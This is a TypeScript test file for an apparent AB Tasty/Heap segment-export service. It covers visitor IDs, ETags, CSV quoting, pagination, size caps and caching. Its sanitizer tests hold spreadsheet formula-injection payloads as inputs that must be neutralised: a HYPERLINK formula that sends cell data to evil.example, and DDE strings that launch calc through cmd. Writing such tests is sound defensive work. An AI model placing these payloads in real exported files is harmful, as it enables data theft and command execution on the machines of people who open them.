import { csvField, etagMatches, etagOf, heapSegmentsOfAlias, parseVisitorId, pullCsvValue, responseBytes, segmentNameCache, segmentUdcCsv as udcOutcome } from '../../functions/domain/abtasty';
import type { SegmentReads } from '../../functions/domain/ports';
import { isUdcValue } from '../../functions/domain/abtasty-udc-file';

/** A part of the UDC CSV of a segment that exists. */
const segmentUdcCsv = async (...args: Parameters<typeof udcOutcome>) => {
  const part = await udcOutcome(...args);
  if (!part.ok) throw new Error(`refused: ${part.message}`);
  return part.value;
};

const reads = (members: string[], name = 'Engaged, "loyal"') => {
  let listCalls = 0;
  const fake: SegmentReads = {
    listSets: () => {
      listCalls += 1;
      return Promise.resolve({ sets: [{ setId: '1', name: `name-${listCalls}`, memberCount: 1 }] });
    },
    getSet: () => Promise.resolve({ setId: '1', name, memberCount: members.length }),
    listMembers: (_set, limit, startKey) => {
      const start = (startKey?.index as number | undefined) ?? 0;
      const end = start + limit;
      return Promise.resolve({ members: members.slice(start, end).map((memberId) => ({ memberId })), ...(end < members.length ? { nextKey: { index: end } } : {}) });
    },
    setsOfMember: () => Promise.resolve([]),
  };
  return { fake, listCalls: () => listCalls };
};

describe('AB Tasty pull API logic', () => {
  it('refuses an invalid visitor id with a message naming the accepted format', () => {
    const refused = parseVisitorId('not a visitor');

    expect(refused).toMatchObject({ ok: false, refused: 'invalid' });
    expect(refused.ok ? undefined : (refused as { errors?: readonly string[] }).errors?.[0]).toContain('^[a-z0-9-]{1,32}$');
    expect(parseVisitorId('ABC-1')).toEqual({ ok: true, value: 'abc-1' });
  });

  it('matches If-None-Match against the ETag: exact, weak, in a list, or *', () => {
    const etag = etagOf('{"a":1}');

    expect(etagMatches(etag, etag)).toBe(true);
    expect(etagMatches(`W/${etag}`, etag)).toBe(true);
    expect(etagMatches(`"other", ${etag}`, etag)).toBe(true);
    expect(etagMatches('*', etag)).toBe(true);
    expect(etagMatches(etagOf('{"a":2}'), etag)).toBe(false);
    expect(etagMatches(undefined, etag)).toBe(false);
  });

  it('quotes CSV fields that hold commas, quotes or line breaks', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
  });

  it('writes one UDC row per member with a header, and continues large segments with a cursor key', async () => {
    const { fake } = reads(['a', 'b', 'c', 'd', 'e']);

    const first = await segmentUdcCsv(fake, 'ws', '1', { pageSize: 2, maxBytes: 10 });
    const rest = await segmentUdcCsv(fake, 'ws', '1', { pageSize: 2, startKey: first.nextKey });

    expect(first.csv).toBe('visitor_id,value\na,Engaged_loyal\nb,Engaged_loyal\n');
    expect(first.nextKey).toEqual({ index: 2 });
    expect(rest.csv.split('\n').filter(Boolean)).toEqual(['c', 'd', 'e'].map((id) => `${id},Engaged_loyal`));
    expect(rest.nextKey).toBeUndefined();
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', 'HYPERLINK(http://evil.example/?&A1_x)'],
    ["+1+cmd|' /C calc'!A0", '1+cmd_/C_calc!A0'],
    ['-10% promo', '10%_promo'],
    ['@SUM(A1:A9)', 'SUM(A1:A9)'],
    ['\t=1', '1'],
    ['Engaged = loyal', 'Engaged_=_loyal'],
    ['Café, "fidèles"', 'Café_fidèles'],
  ])('writes a pull CSV value in AB Tasty\'s charset that never starts like a formula: %j', (text, value) => {
    const written = pullCsvValue(text);

    expect(written).toBe(value);
    expect(written !== undefined && isUdcValue(written)).toBe(true);
  });

  it('has no pull CSV value for text with nothing usable in it', () => {
    expect(pullCsvValue('=-+@')).toBeUndefined();
    expect(pullCsvValue('日本語')).toBeUndefined();
  });

  it('writes formula-like segment names and ?value= in the charset, unquoted, and visitor ids unchanged', async () => {
    const { fake } = reads(['-abc', 'v1'], '=cmd|"/C calc"!A0');

    const byName = await segmentUdcCsv(fake, 'ws', '1', {});
    const byValue = await segmentUdcCsv(fake, 'ws', '1', { value: '@evil' });
    const unusable = await segmentUdcCsv(fake, 'ws', '1', { value: '日本語' });

    expect(byName.csv).toBe('visitor_id,value\n-abc,cmd/C_calc!A0\nv1,cmd/C_calc!A0\n');
    expect(byValue.csv).toBe('visitor_id,value\n-abc,evil\nv1,evil\n');
    expect(unusable.csv).toBe('visitor_id,value\n-abc,heap_1\nv1,heap_1\n');
  });

  it('counts the size cap in response bytes, so a non-ASCII value cannot push a part past Lambda\'s 6 MB', async () => {
    const ids = Array.from({ length: 40_000 }, (_, index) => `visitor-${String(index).padStart(24, '0')}`);
    const { fake } = reads(ids);
    const value = 'é'.repeat(64); // 64 characters, 128 bytes

    const parts: { csv: string; rows: number }[] = [];
    let startKey: Record<string, unknown> | undefined;
    do {
      const part = await segmentUdcCsv(fake, 'ws', '1', { value, ...(startKey ? { startKey } : {}) });
      parts.push(part);
      startKey = part.nextKey;
    } while (startKey);

    const sizes = parts.map((part) => responseBytes(part.csv));
    expect(Math.max(...sizes)).toBeLessThanOrEqual(6_000_000);
    expect(parts.length).toBeGreaterThan(1);
    expect(parts.flatMap((part) => part.csv.split('\n').filter(Boolean)).slice(1)).toEqual(ids.map((id) => `${id},${value}`));
  });

  it('reads pages small enough that one page of the largest rows fits the page budget', async () => {
    const limits: number[] = [];
    const { fake } = reads(Array.from({ length: 500 }, (_, index) => `v${index}`), 'É'.repeat(64));
    const listMembers = fake.listMembers.bind(fake);
    fake.listMembers = (set, limit, startKey) => {
      limits.push(limit);
      return listMembers(set, limit, startKey);
    };

    const part = await segmentUdcCsv(fake, 'ws', '1', { maxBytes: 1_000, pageMaxBytes: 2_000 });

    // The largest row: 32 id bytes, a comma, the value (64 × 2 bytes), `\n` = 162 bytes; 2,000 / 162 = 12.
    expect(limits).toEqual([12]);
    expect(responseBytes(part.csv)).toBeLessThanOrEqual(1_000 + 2_000);
    expect(part.rows).toBe(12);
  });

  it('caches segment names per workspace, reloading after the TTL or for an unknown segment', async () => {
    let clock = 0;
    const { fake, listCalls } = reads([]);
    const cache = segmentNameCache(fake, { now: () => clock }, { ttlMs: 1000, missRefreshMs: 100 });

    await cache.namesOf('ws', ['1']);
    await cache.namesOf('ws', ['1']);
    const beforeMiss = listCalls();
    await cache.namesOf('ws', ['2']); // unknown, but reloaded less than missRefreshMs ago
    clock = 200;
    await cache.namesOf('ws', ['2']);
    clock = 5000;
    const names = await cache.namesOf('ws', ['1']);

    expect(beforeMiss).toBe(1);
    expect(listCalls()).toBe(3);
    expect(names.get('1')).toBe('name-3');
  });
});

describe('Heap segments of a profile alias', () => {
  it('looks up the lower-cased visitor id, and gives nothing for an alias that is not a visitor id', async () => {
    const asked: string[] = [];
    const reads = {
      setsOfMember: (_ws: string, _kind: string, memberId: string) => {
        asked.push(memberId);
        return Promise.resolve([{ setId: '9' }, { setId: '10' }]);
      },
    } as unknown as Pick<SegmentReads, 'setsOfMember'>;

    const found = await heapSegmentsOfAlias(reads, 'ws', 'ABC-123');
    const invalid = await heapSegmentsOfAlias(reads, 'ws', 'user@example.com');

    expect(found).toEqual({ visitorId: 'abc-123', segmentIds: ['10', '9'] });
    expect(invalid).toBeUndefined();
    expect(asked).toEqual(['abc-123']);
  });
});
